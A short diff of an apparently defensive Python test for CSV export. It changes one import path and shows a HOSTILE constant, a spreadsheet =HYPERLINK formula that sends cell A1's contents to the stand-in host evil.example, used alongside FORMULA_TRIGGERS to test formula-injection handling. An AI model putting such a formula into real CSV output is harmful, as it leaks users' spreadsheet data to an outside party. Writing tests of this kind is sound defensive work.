@@ -3,7 +3,7 @@
 import csv
 import json
 
-from tests.foundation.test_cli import run
+from tests.cli.test_cli import run
 from transport.io.csv_out import FORMULA_TRIGGERS
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
